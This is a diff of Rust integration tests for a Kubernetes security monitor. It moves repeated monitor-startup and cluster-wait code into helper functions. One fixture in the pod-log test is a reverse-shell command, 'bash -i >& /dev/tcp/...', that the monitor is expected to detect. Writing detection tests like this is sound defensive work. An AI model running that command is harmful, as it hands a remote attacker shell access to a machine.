@@ -1179,6 +1179,34 @@ fn open_findings_are_kept_in_the_cluster_as_policy_reports() {
     );
 }
 
+/// The monitor watching `api` (its kubeconfig in a fresh directory, which also holds the state
+/// in `state/`) with `extra` options.
+fn start_watching(
+    api: &kubevigil_testapi::TestApi,
+    extra: &[&str],
+) -> (tempfile::TempDir, Running) {
+    let dir = tempfile::tempdir().unwrap();
+    let kubeconfig = dir.path().join("kubeconfig");
+    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
+    let mut args = vec!["--kubeconfig", kubeconfig.to_str().unwrap()];
+    args.extend_from_slice(extra);
+    let m = start(&dir.path().join("state"), &args);
+    (dir, m)
+}
+
+/// Waits until the monitor published its first read of the cluster: the dashboard's
+/// NetworkPolicy page names `workload`.
+fn wait_for_inventory(m: &Running, workload: &str) {
+    let deadline = Instant::now() + Duration::from_secs(20);
+    while !http(&m.metrics, "GET", "/network", b"")
+        .1
+        .contains(workload)
+    {
+        assert!(Instant::now() < deadline, "the cluster was never read");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
 /// Falco's `http_output` posts each alert to `/falco`: the alerts of the bundled example become
 /// alerts like audit ones (stdout, history, metrics), the pod's workload, service account and
 /// namespace labels added from the cluster the monitor reads; a body without any alert is 400.
@@ -1207,29 +1235,9 @@ fn falco_alerts_are_enriched_from_the_cluster() {
                "spec": {"serviceAccountName": "web", "containers": [{"name": "web", "image": "registry.example.com/shop/web:2.4.1"}]}}),
     ])
     .unwrap();
-    let dir = tempfile::tempdir().unwrap();
-    let kubeconfig = dir.path().join("kubeconfig");
-    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
+    let (dir, m) = start_watching(&api, &["--resync-interval", "1"]);
     let state = dir.path().join("state");
-    let m = start(
-        &state,
-        &[
-            "--kubeconfig",
-            kubeconfig.to_str().unwrap(),
-            "--resync-interval",
-            "1",
-        ],
-    );
-    // The inventory the alerts are enriched from is published with the first evaluation: the
-    // dashboard's NetworkPolicy page lists the workload then.
-    let deadline = Instant::now() + Duration::from_secs(20);
-    while !http(&m.metrics, "GET", "/network", b"")
-        .1
-        .contains("shop/web")
-    {
-        assert!(Instant::now() < deadline, "the cluster was never read");
-        std::thread::sleep(Duration::from_millis(200));
-    }
+    wait_for_inventory(&m, "shop/web");
     let example = std::fs::read_to_string(concat!(
         env!("CARGO_MANIFEST_DIR"),
         "/../../examples/falco/falco.json"
@@ -1332,21 +1340,8 @@ fn hubble_flows_are_judged_against_the_watched_policies() {
     );
     api.create_all(loaded.inventory.objects.into_iter().map(|o| o.value))
         .unwrap();
-    let dir = tempfile::tempdir().unwrap();
-    let kubeconfig = dir.path().join("kubeconfig");
-    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
-    let m = start(
-        &dir.path().join("state"),
-        &["--kubeconfig", kubeconfig.to_str().unwrap()],
-    );
-    let deadline = Instant::now() + Duration::from_secs(20);
-    while !http(&m.metrics, "GET", "/network", b"")
-        .1
-        .contains("shop/web")
-    {
-        assert!(Instant::now() < deadline, "the cluster was never read");
-        std::thread::sleep(Duration::from_millis(200));
-    }
+    let (_dir, m) = start_watching(&api, &[]);
+    wait_for_inventory(&m, "shop/web");
     let flows = std::fs::read(concat!(
         env!("CARGO_MANIFEST_DIR"),
         "/../../examples/hubble/flows.json"
@@ -1422,13 +1417,7 @@ fn kubernetes_events_are_watched_and_matched() {
         ));
     }
     api.create_all(events).unwrap();
-    let dir = tempfile::tempdir().unwrap();
-    let kubeconfig = dir.path().join("kubeconfig");
-    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
-    let m = start(
-        &dir.path().join("state"),
-        &["--kubeconfig", kubeconfig.to_str().unwrap()],
-    );
+    let (_dir, m) = start_watching(&api, &[]);
     let mut names = Vec::new();
     let mut wait = Duration::from_secs(15);
     while let Ok(a) = m.alerts.recv_timeout(wait) {
@@ -1503,18 +1492,7 @@ fn pod_logs_are_followed_across_a_cut() {
         "2026-11-30T10:00:01.300000000Z",
         "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
     );
-    let dir = tempfile::tempdir().unwrap();
-    let kubeconfig = dir.path().join("kubeconfig");
-    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
-    let m = start(
-        &dir.path().join("state"),
-        &[
-            "--kubeconfig",
-            kubeconfig.to_str().unwrap(),
-            "--pod-logs-namespace",
-            "shop",
-        ],
-    );
+    let (_dir, m) = start_watching(&api, &["--pod-logs-namespace", "shop"]);
     let first = m.alerts.recv_timeout(Duration::from_secs(20)).unwrap();
     assert_eq!(first["name"], "pod_log_credential", "{first}");
     assert_eq!(first["action"]["namespace"], "shop");
@@ -1576,20 +1554,7 @@ fn resource_abuse_is_judged_from_the_metrics_api() {
                 "currentMetrics": [{"type": "Resource", "resource": {"name": "cpu", "current": {"averageUtilization": 140}}}]}}),
     ])
     .unwrap();
-    let dir = tempfile::tempdir().unwrap();
-    let kubeconfig = dir.path().join("kubeconfig");
-    api.write_kubeconfig(&kubeconfig, "shop-prod").unwrap();
-    let m = start(
-        &dir.path().join("state"),
-        &[
-            "--kubeconfig",
-            kubeconfig.to_str().unwrap(),
-            "--metrics-interval",
-            "1",
-            "--hog-window",
-            "0",
-        ],
-    );
+    let (_dir, m) = start_watching(&api, &["--metrics-interval", "1", "--hog-window", "0"]);
     let mut got = std::collections::BTreeMap::new();
     let deadline = Instant::now() + Duration::from_secs(20);
     while got.len() < 3 && Instant::now() < deadline {
